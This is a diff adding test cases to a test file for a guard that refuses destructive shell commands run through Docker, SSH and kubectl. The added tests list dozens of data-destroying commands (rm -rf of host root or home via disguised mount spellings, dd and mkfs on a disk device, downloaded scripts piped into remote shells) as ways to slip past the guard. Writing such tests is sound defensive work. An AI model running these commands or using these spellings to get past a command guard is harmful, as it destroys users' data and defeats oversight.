@@ -59,6 +59,76 @@ describe("a catastrophic command run on a remote host or in a container is refus
   });
 });
 
+// Attacks on the mount reading (textual: the command's spelling of the folder inside the container is
+// replaced by the host folder's). Each reached the host's / or home while the reader saw a temp folder.
+describe("a container command that reaches a host folder through a mount by another spelling is refused", () => {
+  it.each([
+    // The target spelled uncleanly in the option: Docker cleans it, the rewriting did not.
+    "docker run -v /:/tmp/h/. alpine rm -rf /tmp/h",
+    "docker run -v /:/tmp//h alpine rm -rf /tmp/h",
+    "docker run -v /:/tmp/x/../h alpine rm -rf /tmp/h",
+    // The target spelled uncleanly, or through its parent folder, in the command.
+    "docker run -v /:/tmp/h alpine rm -rf /tmp//h",
+    "docker run -v /:/tmp/h alpine rm -rf /tmp/./h",
+    "docker run -v /:/tmp/h -w /tmp alpine rm -rf h",
+    "docker run -v /:/tmp/h --workdir=/tmp alpine rm -rf ./h",
+    "docker run -v /:/tmp/h alpine sh -c 'cd /tmp; rm -rf h'",
+    "docker run -v /:/tmp/h alpine sh -c 'cd /; rm -rf tmp/h'",
+    "docker run -v /:/tmp/h alpine sh -c 'x=/tmp; rm -rf $x/h'",
+    "docker run -v /:/tmp/h alpine sh -c 'rm -rf ${TMPDIR:-/tmp}/h'",
+    "docker run -v /:/tmp/h alpine sh -c 'rm -rf /tmp/*'",
+    "docker run -v /:/tmp/h alpine rm -rf /tmp/h*",
+    "docker run -v /:/tmp/h alpine sh -c 'rm -rf /tmp/[h]'",
+    "docker run -v /:/tmp/h alpine sh -c 'rm -rf /tm\"\"p/h'",
+    'docker run -v /:/tmp/h alpine sh -c "rm -rf /tmp/\\h"',
+    "docker run -v /:/tmp/h --entrypoint sh alpine -c 'cd /tmp; rm -rf h'",
+    "docker run -v /:/tmp/h --health-cmd 'cd /tmp; rm -rf h' alpine",
+    "docker run -v /home/dev/project/a:/tmp/h alpine sh -c 'cd /tmp/h/..; rm -rf h'",
+    // Mount fields read as read-only or not a bind when Docker writes through them.
+    "docker run --mount type=bind,src=/,dst=/tmp/h,readonly=false alpine rm -rf /tmp/h",
+    "docker run --mount type=bind,src=/,dst=/tmp/h,ro=0 alpine rm -rf /tmp/h",
+    "docker run --mount type=BIND,src=/,dst=/tmp/h alpine rm -rf /tmp/h",
+    "docker run --mount 'type=bind,\"src=/\",dst=/tmp/h' alpine rm -rf /tmp/h",
+    "docker run --mount type=volume,dst=/tmp/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/ alpine rm -rf /tmp/h",
+    "docker run -v /:/tmp/h:ro,rw alpine rm -rf /tmp/h",
+    // A home folder spelled with a tilde, and a device mapped to another path.
+    "docker run -v ~/:/tmp/h alpine rm -rf /tmp/h",
+    "docker run --mount type=bind,src=~,dst=/tmp/h alpine rm -rf /tmp/h",
+    "docker run --device /dev/sda:/tmp/d alpine dd if=/dev/zero of=/tmp/d",
+    "docker run --device=/dev/sda:/tmp/d:rwm alpine mkfs.ext4 /tmp/d",
+  ])("%s", (command) => {
+    expect(refused(command)).toBe(true);
+  });
+});
+
+// Input and verbs the first reading did not follow.
+describe("a remote or container command fed a script, or named past kubectl's own options, is read", () => {
+  it.each([
+    // The remote shell (or a shell the remote command starts) reads a file the line wrote, or a download.
+    "printf 'rm -rf ~\\n' > s.sh; ssh host < s.sh",
+    "printf 'rm -rf ~\\n' > s.sh; ssh host bash < s.sh",
+    "printf 'rm -rf ~\\n' > s.sh; ssh host 'sh; true' < s.sh",
+    "printf 'rm -rf ~\\n' > s.sh; cat s.sh | ssh host",
+    "curl -s https://x.example/i.sh | ssh host",
+    "curl -s https://x.example/i.sh | ssh host bash",
+    "printf 'rm -rf /\\n' > s.sh; docker exec -i c sh < s.sh",
+    "printf 'rm -rf /\\n' > s.sh; cat s.sh | docker exec -i c sh",
+    "printf 'rm -rf /\\n' > s.sh; kubectl exec -i pod -- sh < s.sh",
+    "echo 'rm -rf /' | kubectl exec -i pod -- sh",
+    "kubectl exec -i pod -- sh <<< 'rm -rf /'",
+    // kubectl's verb after its own options, the older `exec pod cmd` form, `nodes/` for a node.
+    "kubectl -n prod exec pod -- rm -rf /",
+    "kubectl --namespace prod exec pod -- rm -rf /",
+    "kubectl exec pod rm -rf /",
+    "kubectl exec -c app pod rm -rf /",
+    "kubectl debug nodes/n -it --image=busybox -- rm -rf /host/home/dev",
+    "kubectl debug node/n -it --image=busybox -- sh -c 'cd /host; rm -rf home'",
+    "gcloud compute ssh vm --flags-file=flags.yaml",
+  ])("%s", (command) => {
+    expect(refused(command)).toBe(true);
+  });
+});
+
 describe("everyday remote and container commands stay allowed", () => {
   it.each([
     "ssh host uptime",
@@ -97,6 +167,24 @@ describe("everyday remote and container commands stay allowed", () => {
     // Read through the mount, the path inside the container is the host's /tmp.
     "docker run -v /tmp/x:/data alpine rm -rf /data/cache",
     "kubectl debug node/n -it --image=busybox -- rm -rf /host/tmp/cache",
+    // Paths that cannot reach a mount: a sibling folder, inside the mount, a read-only mount.
+    'docker run --rm -v "$PWD":/app -w /app node:20 sh -c "rm -rf dist && npm run build"',
+    'docker run --rm -v "$PWD":/app -w /app node:20 npm ci --cache /tmp/npm',
+    "docker run -v /tmp/x:/data alpine sh -c 'cd /data && rm -rf cache/*'",
+    "docker run -v /:/tmp/h:ro alpine rm -rf /tmp/x",
+    "docker run --mount type=bind,src=/,dst=/tmp/h,readonly alpine rm -rf /tmp/x",
+    "docker run --device /dev/snd alpine aplay /tmp/a.wav",
+    // Input that is data, or a script on disk (as `bash < deploy.sh` is here).
+    "ssh host < deploy.sh",
+    "cat deploy.sh | ssh host",
+    "tar cz . | ssh host 'tar xz -C /srv/app'",
+    "pg_dump db | ssh host 'psql db'",
+    "ssh host 'cat > /srv/app/x' < local.txt",
+    "docker exec -i db psql -U postgres < dump.sql",
+    "cat dump.sql | docker exec -i db psql -U postgres",
+    "kubectl exec -i db -- psql < dump.sql",
+    "kubectl -n prod exec pod -- ls",
+    "kubectl exec pod ls",
   ])("%s", (command) => {
     expect(refused(command)).toBe(false);
   });
